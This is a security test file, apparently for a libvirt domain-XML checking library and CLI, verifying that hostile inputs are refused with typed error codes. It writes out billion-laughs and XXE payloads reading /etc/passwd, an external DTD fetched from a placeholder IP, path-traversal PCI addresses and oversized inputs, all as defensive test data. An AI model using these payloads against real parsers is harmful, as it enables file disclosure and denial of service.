/**
 * The catalogue of hostile inputs (docs/security.md): each one named, with
 * the typed code it is refused with, through the library (parseDocument /
 * checkDocument / planDocument) and through the real CLI, which must exit
 * 1 with the code printed and never a stack trace. The per-test timeouts
 * are the "refused fast, no hang" check. test/xml/errors.test.ts and
 * test/cpuset/ hold the parser-level unit tests some of these repeat.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { checkDocument, definitionOf, hostFromSysfs, parseCpuSet, parseDocument, planDocument, readDomain, readDomainText, resolveDocument, toJSON } from '../../src/index.js';
import { runCli } from '../support/cli.js';
import { repoRoot } from '../support/corpus.js';
import { domain, expectCliRefusal, expectNoCrash, expectParserRefusal, expectRuleRefusal, runCliWithStdin, Scratch, thrownCode } from './support.js';

const FAST = 30_000;
const BIG = 120_000;
const MiB = 1024 * 1024;
const scratch = new Scratch();
afterAll(() => scratch.remove());

const vcpupin = (cpuset: string, vcpu = '0'): string => domain(`  <cputune>\n    <vcpupin vcpu='${vcpu}' cpuset='${cpuset}'/>\n  </cputune>`);
const pciHostdev = (attrs: string): string =>
  domain(`  <devices>\n    <hostdev mode='subsystem' type='pci' managed='yes'>\n      <source>\n        <address ${attrs}/>\n      </source>\n    </hostdev>\n  </devices>`);
const IRQ_NS = 'https://virt-pin.dev/xmlns/irq/1';

describe('entity expansion and external entities (no DOCTYPE at all)', () => {
  const laughs =
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
    Array.from({ length: 9 }, (_, k) => ` <!ENTITY lol${k + 1} "${`&lol${k || ''};`.repeat(10)}">`).join('\n') +
    '\n]>\n' +
    domain('  <description>&lol9;</description>');
  const xxe = `<?xml version="1.0"?>\n<!DOCTYPE domain [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${domain('  <description>&xxe;</description>')}`;

  it('billion laughs: XML_DOCTYPE before any entity is expanded', () => {
    expectParserRefusal(laughs, 'XML_DOCTYPE');
    expectCliRefusal(['check', scratch.file(laughs)], 'XML_DOCTYPE');
  }, FAST);

  it('external entity (XXE) naming /etc/passwd: XML_DOCTYPE, and nothing of the file is read or echoed', () => {
    expectParserRefusal(xxe, 'XML_DOCTYPE');
    const r = expectCliRefusal(['check', scratch.file(xxe)], 'XML_DOCTYPE');
    expect(r.stdout + r.stderr).not.toMatch(/root:.*:0:0:/);
  }, FAST);

  it('external DTD subset and parameter entities: XML_DOCTYPE', () => {
    for (const doctype of ['<!DOCTYPE domain SYSTEM "file:///etc/passwd">', '<!DOCTYPE domain [<!ENTITY % p SYSTEM "http://203.0.113.1/evil.dtd"> %p;]>', '<!doctype domain>']) {
      const text = `${doctype}\n${domain('')}`;
      expectParserRefusal(text, 'XML_DOCTYPE');
      expectCliRefusal(['check', scratch.file(text)], 'XML_DOCTYPE');
    }
  }, FAST);

  it('an entity reference with no DTD to define it: XML_UNDEFINED_ENTITY', () => {
    const text = domain('  <description>&xxe;</description>');
    expectParserRefusal(text, 'XML_UNDEFINED_ENTITY');
    expectCliRefusal(['check', scratch.file(text)], 'XML_UNDEFINED_ENTITY');
  }, FAST);
});

describe('size, depth and count', () => {
  it('100,000-deep nesting: XML_TOO_DEEP at depth 129, no stack overflow', () => {
    const text = domain('<a>'.repeat(100_000) + '</a>'.repeat(100_000));
    expectParserRefusal(text, 'XML_TOO_DEEP');
    expectCliRefusal(['check', scratch.file(text)], 'XML_TOO_DEEP');
  }, FAST);

  it('a 64 MiB document: XML_TOO_LARGE; the CLI refuses the file from its size without reading it', () => {
    const text = domain(`  <description>${'x'.repeat(64 * MiB)}</description>`);
    expectParserRefusal(text, 'XML_TOO_LARGE');
    const r = expectCliRefusal(['check', scratch.file(text, 'big.xml')], 'XML_TOO_LARGE');
    expect(r.stdout).toContain(`(${Buffer.byteLength(text)} bytes); it was not read`);
  }, BIG);

  it('a 64 MiB document on standard input: XML_TOO_LARGE, reading stops at the limit', () => {
    const r = runCliWithStdin(['check', '-'], Buffer.from(domain(`  <description>${'x'.repeat(64 * MiB)}</description>`)));
    expect(r.stdout).toMatch(/error XML_TOO_LARGE <stdin> is larger than the 4194304-byte limit; reading stopped there/);
    expectNoCrash(r);
    expect(r.status).toBe(1);
  }, BIG);

  it('10^6 <vcpupin> elements: XML_TOO_LARGE by default; XML_TOO_MANY_ELEMENTS when only the size limit is raised', () => {
    const pins = Array.from({ length: 1_000_000 }, (_, i) => `<vcpupin vcpu='${i}' cpuset='${i % 64}'/>`).join('');
    const text = domain(`  <cputune>${pins}</cputune>`);
    expectParserRefusal(text, 'XML_TOO_LARGE');
    expectParserRefusal(text, 'XML_TOO_MANY_ELEMENTS', { maxBytes: 64 * MiB, maxElements: 100_000 });
    const file = scratch.file(text, 'million-pins.xml');
    expectCliRefusal(['check', file], 'XML_TOO_LARGE');
    expectCliRefusal(['check', '--max-bytes', '64M', '--max-elements', '100000', file], 'XML_TOO_MANY_ELEMENTS');
  }, BIG);
});

describe('bytes and characters', () => {
  it('invalid UTF-8 (a stray continuation byte, an overlong "/"): XML_BAD_ENCODING at the CLI; lone surrogates: XML_ILLEGAL_CHAR in the library', () => {
    const [before, after] = domain("  <description x='@'/>").split('@') as [string, string];
    for (const bad of [[0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xff]]) {
      const bytes = Buffer.concat([Buffer.from(before), Buffer.from(bad), Buffer.from(after)]);
      expectCliRefusal(['check', scratch.file(bytes)], 'XML_BAD_ENCODING');
    }
    // A string cannot hold invalid UTF-8; what a careless decoder leaves instead is a lone surrogate.
    expectParserRefusal(domain("  <description x='\uD800'/>"), 'XML_ILLEGAL_CHAR');
    expectParserRefusal(domain("  <description x='\uDC00a'/>"), 'XML_ILLEGAL_CHAR');
  }, FAST);

  it('an encoding other than UTF-8 declared: XML_BAD_ENCODING', () => {
    const text = `<?xml version='1.0' encoding='ISO-8859-1'?>\n${domain('')}`;
    expectParserRefusal(text, 'XML_BAD_ENCODING');
    expectCliRefusal(['check', scratch.file(text)], 'XML_BAD_ENCODING');
  }, FAST);

  it('NUL in an attribute: XML_ILLEGAL_CHAR (raw byte), XML_BAD_CHAR_REF (&#0;)', () => {
    const raw = vcpupin('0\u00001');
    expectParserRefusal(raw, 'XML_ILLEGAL_CHAR');
    expectCliRefusal(['check', scratch.file(raw)], 'XML_ILLEGAL_CHAR');
    const ref = vcpupin('0&#0;1');
    expectParserRefusal(ref, 'XML_BAD_CHAR_REF');
    expectCliRefusal(['check', scratch.file(ref)], 'XML_BAD_CHAR_REF');
  }, FAST);

  it('duplicate attributes, also the 10,000th of 10,000: XML_DUPLICATE_ATTRIBUTE', () => {
    const twice = domain("  <cputune>\n    <vcpupin vcpu='0' cpuset='1' vcpu='1'/>\n  </cputune>");
    expectParserRefusal(twice, 'XML_DUPLICATE_ATTRIBUTE');
    expectCliRefusal(['check', scratch.file(twice)], 'XML_DUPLICATE_ATTRIBUTE');
    const many = domain(`  <description ${Array.from({ length: 9_999 }, (_, i) => `a${i}='${i}'`).join(' ')} a5000='again'/>`);
    expectParserRefusal(many, 'XML_DUPLICATE_ATTRIBUTE');
    expectCliRefusal(['check', scratch.file(many)], 'XML_DUPLICATE_ATTRIBUTE');
  }, FAST);
});

describe('CPU lists', () => {
  it("cpuset '0-4294967295': CPUSET_ID_TOO_LARGE, reported as VCPUPIN_INVALID", () => {
    expect(thrownCode(() => parseCpuSet('0-4294967295'))).toBe('CPUSET_ID_TOO_LARGE');
    const text = vcpupin('0-4294967295');
    expectRuleRefusal(text, 'VCPUPIN_INVALID');
    expectCliRefusal(['check', scratch.file(text)], 'VCPUPIN_INVALID');
  }, FAST);

  it("cpuset '0-16384' (one past libvirt's 16,384 CPUs): CPUSET_ID_TOO_LARGE, EMULATORPIN_INVALID; '0-16383' is accepted", () => {
    expect(thrownCode(() => parseCpuSet('0-16384'))).toBe('CPUSET_ID_TOO_LARGE');
    expect(parseCpuSet('0-16383').size).toBe(16_384);
    const text = domain("  <cputune>\n    <emulatorpin cpuset='0-16384'/>\n  </cputune>");
    expectRuleRefusal(text, 'EMULATORPIN_INVALID');
    expectCliRefusal(['check', scratch.file(text)], 'EMULATORPIN_INVALID');
    expect(checkDocument(domain("  <cputune>\n    <emulatorpin cpuset='0-16383'/>\n  </cputune>")).filter((d) => d.severity === 'error')).toEqual([]);
  }, FAST);

  it("a flood of 1,000,000 '^': CPUSET_SYNTAX, reported as VCPUPIN_INVALID", () => {
    expect(thrownCode(() => parseCpuSet(`${'^'.repeat(1_000_000)}1`))).toBe('CPUSET_SYNTAX');
    const text = vcpupin(`${'^'.repeat(1_000_000)}1`);
    expectRuleRefusal(text, 'VCPUPIN_INVALID');
    expectCliRefusal(['check', scratch.file(text)], 'VCPUPIN_INVALID');
  }, FAST);

  it('a list of 655,360 exclusions filling the 4 MiB limit is accepted in linear time (it was quadratic)', () => {
    const odd = Array.from({ length: 8192 }, (_, i) => `^${2 * i + 1}`).join(',');
    const list = `0-16383,${Array.from({ length: 80 }, () => odd).join(',')}`;
    expect(list.length).toBeGreaterThan(3.9 * MiB);
    expect(list.length).toBeLessThan(4 * MiB - 1000);
    const set = parseCpuSet(list);
    expect(set.size).toBe(8192);
    expect(set.has(16382) && !set.has(16383)).toBe(true);
    const text = vcpupin(list);
    expect(checkDocument(text).filter((d) => d.severity === 'error')).toEqual([]);
    const r = runCli(['check', scratch.file(text)]);
    expectNoCrash(r);
    expect(r.status).toBe(0);
  }, BIG);
});

describe('PCI addresses with path characters never reach a path', () => {
  const host = hostFromSysfs(`${repoRoot}/fixtures/passthrough-host/root`);

  it("<hostdev><source><address domain='..' bus='../..'>: HOSTDEV_INVALID; the plan leaves the device alone (IRQ_HOSTDEV_BAD_ADDRESS)", () => {
    const text = pciHostdev("domain='..' bus='../..' slot='0x1f' function='0'");
    expectRuleRefusal(text, 'HOSTDEV_INVALID');
    expect(definitionOf(readDomainText(text), { driver: 'qemu' }).hostdevs.map((h) => h.pciAddress)).toEqual([undefined]);
    const plan = planDocument(text, { host });
    expect(plan.diagnostics.map((d) => d.code)).toContain('IRQ_HOSTDEV_BAD_ADDRESS');
    expect(plan.devices).toEqual([]);
    expect(JSON.stringify(plan.actions)).not.toContain('..');
    expectCliRefusal(['check', scratch.file(text)], 'HOSTDEV_INVALID');
  }, FAST);

  it('%2f and slashes in the address attributes: HOSTDEV_INVALID', () => {
    for (const attrs of ["domain='0x0000' bus='%2f' slot='0' function='0'", "domain='0x0000/..' bus='0' slot='1' function='0'", "domain='0' bus='1' slot='0x1f/../../x' function='0'"]) {
      const text = pciHostdev(attrs);
      expectRuleRefusal(text, 'HOSTDEV_INVALID');
      expectCliRefusal(['check', scratch.file(text)], 'HOSTDEV_INVALID');
    }
  }, FAST);

  it("<vp:irq hostdev='../../../../etc/passwd'> and URL-encoded tricks: IRQ_POLICY_BAD_ADDRESS, no IRQ touched", () => {
    for (const address of ['../../../../etc/passwd', '0000:0a:00.0/../../../x', '..%2f..%2fetc', '0000%3a0a%3a00.0', '0000:0a:00.0\n']) {
      const text = domain(`  <metadata>\n    <vp:irq xmlns:vp='${IRQ_NS}' hostdev='${address.replace(/\n/g, '&#10;')}' affinity='0-1'/>\n  </metadata>`);
      const plan = planDocument(text, { host });
      expect(plan.diagnostics.filter((d) => d.severity === 'error').map((d) => d.code)).toEqual(['IRQ_POLICY_BAD_ADDRESS']);
      expect(plan.actions.filter((a) => a.kind === 'irq-affinity')).toEqual([]);
      expectCliRefusal(['plan', '--host', 'sysfs:fixtures/passthrough-host/root', scratch.file(text)], 'IRQ_POLICY_BAD_ADDRESS');
    }
  }, FAST);
});

describe('negative and octal-looking numbers, read as libvirt reads them', () => {
  it("<vcpupin vcpu='-1'>: VCPUPIN_INVALID (libvirt: 'Expected non-negative integer value')", () => {
    const text = vcpupin('1', '-1');
    expectRuleRefusal(text, 'VCPUPIN_INVALID');
    expectCliRefusal(['check', scratch.file(text)], 'VCPUPIN_INVALID');
  }, FAST);

  it("cpuset='010' is CPU 10, not 8: libvirt's list parser is always decimal", () => {
    const text = vcpupin('010');
    expect(checkDocument(text).filter((d) => d.severity === 'error')).toEqual([]);
    expect(toJSON(resolveDocument(text)).vcpus[0]!.cpus).toBe('10');
    const r = runCli(['resolve', '--json', scratch.file(text)]);
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).vcpus[0].cpus).toBe('10');
  }, FAST);

  it('<vcpu>08</vcpu> is 8 vCPUs: virStrToLong_ui reads base 10, so 08 is no octal error', () => {
    const text = domain('', '08');
    expect(checkDocument(text).filter((d) => d.severity === 'error')).toEqual([]);
    expect(definitionOf(readDomainText(text), { driver: 'qemu' }).maxVcpus).toBe(8);
    expect(runCli(['check', scratch.file(text)]).status).toBe(0);
  }, FAST);

  it('<vcpu>-1</vcpu> wraps to 4294967295 as in libvirt (which then aborts allocating them): a warning, a QEMU refusal, and at most 16,384 vCPUs built', () => {
    const text = domain('', '-1');
    const codes = checkDocument(text).map((d) => `${d.severity} ${d.code}`);
    expect(codes).toContain('warning VCPU_COUNT_WRAPPED');
    expect(codes).toContain('error QEMU_VCPU_TOPOLOGY');
    expect(definitionOf(readDomain(parseDocument(text)), { driver: 'qemu' }).vcpus.length).toBe(16_384);
    expectCliRefusal(['check', scratch.file(text)], 'QEMU_VCPU_TOPOLOGY');
  }, FAST);

  it("a PCI slot='010' is octal 8: libvirt reads PCI addresses with base auto-detection", () => {
    const text = pciHostdev("domain='0' bus='1' slot='010' function='0'");
    expect(checkDocument(text).filter((d) => d.severity === 'error')).toEqual([]);
    expect(definitionOf(readDomainText(text), { driver: 'qemu' }).hostdevs[0]!.pciAddress).toBe('0000:01:08.0');
  }, FAST);
});
